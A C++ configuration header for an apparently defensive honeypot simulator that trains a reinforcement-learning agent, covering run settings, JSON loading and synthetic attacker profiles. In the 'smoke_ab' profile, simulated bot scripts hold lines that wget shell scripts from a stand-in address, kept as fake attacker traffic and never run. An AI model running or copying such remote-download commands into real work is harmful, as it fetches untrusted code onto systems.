#pragma once

#include <cstdint>
#include <fstream>
#include <string>

#include <nlohmann/json.hpp>

#include "adlah/agent.hpp"
#include "adlah/chains.hpp"
#include "adlah/errors.hpp"
#include "adlah/events.hpp"
#include "adlah/orchestrator.hpp"
#include "adlah/valuation.hpp"

namespace adlah {

// Everything a run needs; a run is reproducible from its RunConfig alone.
struct RunConfig {
    std::uint64_t seed = 1;
    SimTime horizon = 86400;
    int n_ips = 200;
    std::string profile_mix = "default";  // default | scanner_only | quiet_only | smoke_ab

    PolicyConfig policy;
    AgentConfig agent;
    nn::AdamConfig adam;
    RewardConfig reward;
    OrchestratorConfig orchestrator;
    ChainStoreConfig chains;

    int episodes = 1;
    int train_every = 1;
    std::uint64_t max_decisions = 0;  // 0 = no cap; checked between episodes
    bool resume = false;
    bool save_replay = false;
    std::string out_dir = "out";
    std::string trace_file;     // replay this trace instead of generating
    std::string sessions_file;  // chain export input (defaults to out_dir/sessions.jsonl)
    double clip_bound = 5.0;

    void validate() const {
        if (horizon <= 0) throw ConfigError("horizon: must be > 0");
        if (n_ips <= 0) throw ConfigError("n_ips: must be > 0");
        if (episodes < 1) throw ConfigError("episodes: must be >= 1");
        if (train_every < 1) throw ConfigError("train_every: must be >= 1");
        if (out_dir.empty()) throw ConfigError("out_dir: must not be empty");
        if (profile_mix != "default" && profile_mix != "scanner_only" &&
            profile_mix != "quiet_only" && profile_mix != "smoke_ab")
            throw ConfigError("profile_mix unknown: " + profile_mix);
        policy.validate();
        agent.validate();
        reward.validate();
        orchestrator.validate();
        chains.validate();
    }
};

inline nlohmann::json to_json(const RunConfig& c) {
    return nlohmann::json{
        {"schema_version", 1},
        {"seed", c.seed},
        {"horizon", c.horizon},
        {"n_ips", c.n_ips},
        {"profile_mix", c.profile_mix},
        {"policy",
         {{"variant", c.policy.variant},
          {"threshold_k", c.policy.threshold_k},
          {"random_p", c.policy.random_p}}},
        {"agent",
         {{"gamma", c.agent.gamma},
          {"epsilon_start", c.agent.epsilon_start},
          {"epsilon_min", c.agent.epsilon_min},
          {"epsilon_decay", c.agent.epsilon_decay},
          {"epsilon_decay_mode", c.agent.epsilon_decay_mode},
          {"linear_decay_steps", c.agent.linear_decay_steps},
          {"replay_capacity", c.agent.replay_capacity},
          {"batch_size", c.agent.batch_size},
          {"target_sync_every", c.agent.target_sync_every}}},
        {"adam",
         {{"learning_rate", c.adam.learning_rate},
          {"beta1", c.adam.beta1},
          {"beta2", c.adam.beta2},
          {"eps", c.adam.eps},
          {"clip_norm", c.adam.clip_norm}}},
        {"reward",
         {{"alpha", c.reward.alpha},
          {"l_bar", c.reward.l_bar},
          {"l_max", c.reward.l_max},
          {"delta", c.reward.delta},
          {"beta", c.reward.beta},
          {"a_max", c.reward.a_max},
          {"omega", c.reward.omega},
          {"lambda_cost", c.reward.lambda_cost},
          {"skip_penalty", c.reward.skip_penalty},
          {"timeout_penalty", c.reward.timeout_penalty},
          {"rolling_l_bar", c.reward.rolling_l_bar},
          {"rolling_window", c.reward.rolling_window}}},
        {"orchestrator",
         {{"capacity", c.orchestrator.capacity},
          {"provisioning_latency", c.orchestrator.provisioning_latency},
          {"inactivity_timeout", c.orchestrator.inactivity_timeout},
          {"max_ttl", c.orchestrator.max_ttl},
          {"wait_silence_timeout", c.orchestrator.wait_silence_timeout},
          {"cpu_cost_per_pod", c.orchestrator.cpu_cost_per_pod},
          {"mem_cost_per_pod", c.orchestrator.mem_cost_per_pod},
          {"promotion_enabled", c.orchestrator.promotion_enabled},
          {"promotion_threshold", c.orchestrator.promotion_threshold},
          {"reward_mode", c.orchestrator.reward_mode == QualityMode::eq2 ? "eq2" : "future"},
          {"cost_unit", c.orchestrator.cost_unit}}},
        {"chains",
         {{"eps", c.chains.eps},
          {"min_pts", c.chains.min_pts},
          {"min_span", c.chains.min_span},
          {"t_major", c.chains.t_major},
          {"t_minor", c.chains.t_minor},
          {"graph_weight", c.chains.graph_weight},
          {"max_representatives", c.chains.max_representatives}}},
        {"episodes", c.episodes},
        {"train_every", c.train_every},
        {"max_decisions", c.max_decisions},
        {"resume", c.resume},
        {"save_replay", c.save_replay},
        {"out_dir", c.out_dir},
        {"trace_file", c.trace_file},
        {"sessions_file", c.sessions_file},
        {"clip_bound", c.clip_bound}};
}

namespace detail {

template <typename T>
void maybe(const nlohmann::json& j, const char* key, T& out) {
    if (j.contains(key)) out = j.at(key).get<T>();
}

}  // namespace detail

inline RunConfig run_config_from_json(const nlohmann::json& j) {
    if (!j.contains("schema_version"))
        throw ConfigError("config: missing schema_version field");
    if (j.at("schema_version").get<int>() != 1)
        throw ConfigError("config: unsupported schema_version " +
                          j.at("schema_version").dump());
    RunConfig c;
    detail::maybe(j, "seed", c.seed);
    detail::maybe(j, "horizon", c.horizon);
    detail::maybe(j, "n_ips", c.n_ips);
    detail::maybe(j, "profile_mix", c.profile_mix);
    if (j.contains("policy")) {
        const auto& p = j.at("policy");
        detail::maybe(p, "variant", c.policy.variant);
        detail::maybe(p, "threshold_k", c.policy.threshold_k);
        detail::maybe(p, "random_p", c.policy.random_p);
    }
    if (j.contains("agent")) {
        const auto& a = j.at("agent");
        detail::maybe(a, "gamma", c.agent.gamma);
        detail::maybe(a, "epsilon_start", c.agent.epsilon_start);
        detail::maybe(a, "epsilon_min", c.agent.epsilon_min);
        detail::maybe(a, "epsilon_decay", c.agent.epsilon_decay);
        detail::maybe(a, "epsilon_decay_mode", c.agent.epsilon_decay_mode);
        detail::maybe(a, "linear_decay_steps", c.agent.linear_decay_steps);
        detail::maybe(a, "replay_capacity", c.agent.replay_capacity);
        detail::maybe(a, "batch_size", c.agent.batch_size);
        detail::maybe(a, "target_sync_every", c.agent.target_sync_every);
    }
    if (j.contains("adam")) {
        const auto& a = j.at("adam");
        detail::maybe(a, "learning_rate", c.adam.learning_rate);
        detail::maybe(a, "beta1", c.adam.beta1);
        detail::maybe(a, "beta2", c.adam.beta2);
        detail::maybe(a, "eps", c.adam.eps);
        detail::maybe(a, "clip_norm", c.adam.clip_norm);
    }
    if (j.contains("reward")) {
        const auto& r = j.at("reward");
        detail::maybe(r, "alpha", c.reward.alpha);
        detail::maybe(r, "l_bar", c.reward.l_bar);
        detail::maybe(r, "l_max", c.reward.l_max);
        detail::maybe(r, "delta", c.reward.delta);
        detail::maybe(r, "beta", c.reward.beta);
        detail::maybe(r, "a_max", c.reward.a_max);
        detail::maybe(r, "omega", c.reward.omega);
        detail::maybe(r, "lambda_cost", c.reward.lambda_cost);
        detail::maybe(r, "skip_penalty", c.reward.skip_penalty);
        detail::maybe(r, "timeout_penalty", c.reward.timeout_penalty);
        detail::maybe(r, "rolling_l_bar", c.reward.rolling_l_bar);
        detail::maybe(r, "rolling_window", c.reward.rolling_window);
    }
    if (j.contains("orchestrator")) {
        const auto& o = j.at("orchestrator");
        detail::maybe(o, "capacity", c.orchestrator.capacity);
        detail::maybe(o, "provisioning_latency", c.orchestrator.provisioning_latency);
        detail::maybe(o, "inactivity_timeout", c.orchestrator.inactivity_timeout);
        detail::maybe(o, "max_ttl", c.orchestrator.max_ttl);
        detail::maybe(o, "wait_silence_timeout", c.orchestrator.wait_silence_timeout);
        detail::maybe(o, "cpu_cost_per_pod", c.orchestrator.cpu_cost_per_pod);
        detail::maybe(o, "mem_cost_per_pod", c.orchestrator.mem_cost_per_pod);
        detail::maybe(o, "promotion_enabled", c.orchestrator.promotion_enabled);
        detail::maybe(o, "promotion_threshold", c.orchestrator.promotion_threshold);
        if (o.contains("reward_mode")) {
            const std::string mode = o.at("reward_mode").get<std::string>();
            if (mode == "eq2")
                c.orchestrator.reward_mode = QualityMode::eq2;
            else if (mode == "future")
                c.orchestrator.reward_mode = QualityMode::future;
            else
                throw ConfigError("orchestrator.reward_mode must be future|eq2, got " + mode);
        }
        detail::maybe(o, "cost_unit", c.orchestrator.cost_unit);
    }
    if (j.contains("chains")) {
        const auto& ch = j.at("chains");
        detail::maybe(ch, "eps", c.chains.eps);
        detail::maybe(ch, "min_pts", c.chains.min_pts);
        detail::maybe(ch, "min_span", c.chains.min_span);
        detail::maybe(ch, "t_major", c.chains.t_major);
        detail::maybe(ch, "t_minor", c.chains.t_minor);
        detail::maybe(ch, "graph_weight", c.chains.graph_weight);
        detail::maybe(ch, "max_representatives", c.chains.max_representatives);
    }
    detail::maybe(j, "episodes", c.episodes);
    detail::maybe(j, "train_every", c.train_every);
    detail::maybe(j, "max_decisions", c.max_decisions);
    detail::maybe(j, "resume", c.resume);
    detail::maybe(j, "save_replay", c.save_replay);
    detail::maybe(j, "out_dir", c.out_dir);
    detail::maybe(j, "trace_file", c.trace_file);
    detail::maybe(j, "sessions_file", c.sessions_file);
    detail::maybe(j, "clip_bound", c.clip_bound);
    c.validate();
    return c;
}

inline RunConfig load_run_config(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw IoError("config: cannot open " + path);
    nlohmann::json j;
    try {
        in >> j;
    } catch (const nlohmann::json::exception& ex) {
        throw ConfigError("config " + path + ": " + ex.what());
    }
    return run_config_from_json(j);
}

// The calibrated populations selectable from a RunConfig.
inline std::vector<AttackerProfile> make_profiles(const RunConfig& cfg) {
    if (cfg.profile_mix == "default") return default_profiles(cfg.n_ips);
    std::vector<AttackerProfile> out;
    const double per_day = 1.0 / 1440.0;
    for (int i = 0; i < cfg.n_ips; ++i) {
        AttackerProfile p;
        p.profile_id = cfg.profile_mix + "-" + std::to_string(i);
        if (cfg.profile_mix == "scanner_only") {
            p.kind = ProfileKind::scanner;
            p.event_rate = 4.0 * per_day;
            p.burst_length = 4;
            p.port_pool = {23, 80, 443, 8080, 5060};
        } else if (cfg.profile_mix == "quiet_only") {
            p.kind = ProfileKind::quiet;
            p.event_rate = 0.0;
            p.burst_length = 1;
            p.port_pool = {53};
        } else {
            // smoke_ab: half engaging bots, half scanners. Sparse cadence
            // (inter-event gaps beyond the wait-silence timeout) makes
            // hesitation genuinely costly: an unescalated source usually goes
            // quiet before its next event.
            if (i % 2 == 0) {
                p.kind = ProfileKind::scripted_bot;
                p.event_rate = 30.0 * per_day;
                p.burst_length = 1;
                p.port_pool = {23};
                for (int k = 0; k < 20; ++k)
                    p.engagement_script.push_back("cmd-" + std::to_string(k) +
                                                  " wget http://203.0.113.9/x" +
                                                  std::to_string(k) + ".sh");
            } else {
                p.kind = ProfileKind::scanner;
                p.event_rate = 30.0 * per_day;
                p.burst_length = 1;
                p.port_pool = {81, 8081, 9090, 10001};
            }
        }
        out.push_back(std::move(p));
    }
    return out;
}

}  // namespace adlah
